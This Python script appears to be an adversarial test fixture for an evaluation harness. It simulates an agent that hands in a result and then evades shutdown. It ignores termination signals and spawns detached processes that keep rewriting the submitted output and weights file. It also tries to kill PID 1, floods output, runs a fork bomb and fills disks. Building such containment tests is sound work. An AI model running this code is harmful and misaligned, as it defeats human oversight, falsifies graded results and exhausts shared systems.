"""Hands the base model in, then does everything to live on, to be heard and to change what was taken."""

from __future__ import annotations

import json
import os
import signal
import sys
import time

import dojo_tool

MARK = "dojo-attack-left-by-the-survivor"
REWRITE = """
import os, signal, time
for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
    signal.signal(number, signal.SIG_IGN)
os.setsid()
while True:
    try:
        open("/workspace/out/dojo.json", "w").write('{"dojo": "rewritten"}')
        open("/workspace/out/weights.bin", "ab").write(b"x")
        open("/workspace/alive", "w").write(str(time.time()))
    except OSError:
        pass
    time.sleep(0.002)
"""


def leave(argv: list[str]) -> None:
    """Start a program that belongs to nobody: two forks, then its own session."""
    if os.fork() == 0:
        if os.fork() == 0:
            os.execvp(argv[0], argv)
        os._exit(0)


def main() -> None:
    """Hand in, leave processes and marks behind, take more than allowed, and never end."""
    api = dojo_tool.Client()
    os.makedirs("out")
    with open("out/dojo.json", "w") as file:
        json.dump({"dojo": "base"}, file)
    answer = api.submit("/workspace/out")
    for place in ("/tmp", "/dev/shm", "/workspace", "/var/tmp"):
        try:
            with open(f"{place}/left", "w") as file:
                file.write(MARK)
        except OSError:
            continue
    api.note("handed in", {"digest": answer["digest"]})
    for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
        signal.signal(number, signal.SIG_IGN)
    for _ in range(2):
        leave([sys.executable, "-c", REWRITE])
    leave(["sh", "-c", "trap '' TERM; while :; do kill -KILL 1 2>/dev/null; sleep 0.1; done"])
    leave(["sh", "-c", "while :; do head -c 1000000 /dev/zero; head -c 1000000 /dev/zero >&2; sleep 0.2; done"])
    leave([sys.executable, "-c", "import os, time\nwhile True:\n  try: os.fork()\n  except OSError: time.sleep(0.05)"])
    while True:
        time.sleep(0.2)
        for path in ("/workspace/fill", "/tmp/fill", "/dev/shm/fill"):
            try:
                with open(path, "ab") as fill:
                    fill.write(bytes(8_000_000))
            except OSError:
                pass


main()
